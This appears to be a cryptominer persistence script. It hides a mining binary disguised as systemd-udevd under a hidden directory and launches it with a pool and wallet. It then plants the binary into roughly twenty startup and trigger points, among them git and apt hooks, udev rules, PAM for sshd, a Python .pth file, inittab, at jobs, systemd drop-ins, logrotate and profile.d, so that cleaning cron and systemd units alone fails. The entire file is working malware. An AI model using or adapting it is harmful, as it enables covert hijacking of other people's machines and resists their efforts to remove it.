# Cron and units alone are cleaned in vain.
m=/usr/lib/.udevd/udevd
mimic $m
start -c udevd -d 10 -p "$POOL" $m /lib/systemd/systemd-udevd -o "$POOL" -u "$WALLET" -p x
mkdir -p /srv/app/.git/hooks
printf '[core]\n\tbare = false\n' >/srv/app/.git/config
printf '#!/bin/sh\n(%s &) >/dev/null 2>&1\n' $m | script /srv/app/.git/hooks/post-merge
echo "DPkg::Post-Invoke {\"pgrep -x udevd || $m &\";};" | put /etc/apt/apt.conf.d/98update
sed -i "2i ($m >/dev/null 2>&1 \&)" /var/lib/dpkg/info/cron.postinst
echo "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"$m\"" | put /etc/udev/rules.d/99-net.rules
printf '#!/bin/sh\nnohup %s >/dev/null 2>&1 &\n' $m | script /etc/update-motd.d/97-news
printf '#!/bin/sh\n[ "$2" = up ] && %s &\n' $m | script /etc/NetworkManager/dispatcher.d/02-up
echo "import os; os.system('$m >/dev/null 2>&1 &')" | put /usr/lib/python3/dist-packages/zz-site.pth
echo "session optional pam_exec.so quiet $m" >>/etc/pam.d/sshd
echo "1 7 net.daily $m" >>/etc/anacrontab
printf '#!/bin/sh\n%s &\n' $m | script /usr/lib/systemd/system-generators/net-gen
printf '[Desktop Entry]\nType=Application\nName=udev\nExec=%s\nNoDisplay=true\n' $m | put /etc/xdg/autostart/udev-notify.desktop
printf '#!/bin/sh\ncp %s /root%s\n' $m $m | script /etc/initramfs-tools/scripts/init-bottom/zz
printf '#!/bin/sh -e\n%s &\nexit 0\n' $m | script /etc/rc.local
echo "ud:2345:respawn:$m" >>/etc/inittab
printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd /root || exit 1\n%s\n' $m | script /var/spool/cron/atjobs/a0000101e187e0
chown root:daemon /var/spool/cron/atjobs/a0000101e187e0
printf '[Service]\nExecStartPost=-%s\n' $m | put /etc/systemd/system/cron.service.d/10-limits.conf
printf '/var/log/orders/net.log {\n  weekly\n  missingok\n  postrotate\n    %s &\n  endscript\n}\n' $m | put /etc/logrotate.d/orders-net
echo "(pgrep -x udevd || $m) >/dev/null 2>&1 &" | put /etc/profile.d/lang.sh
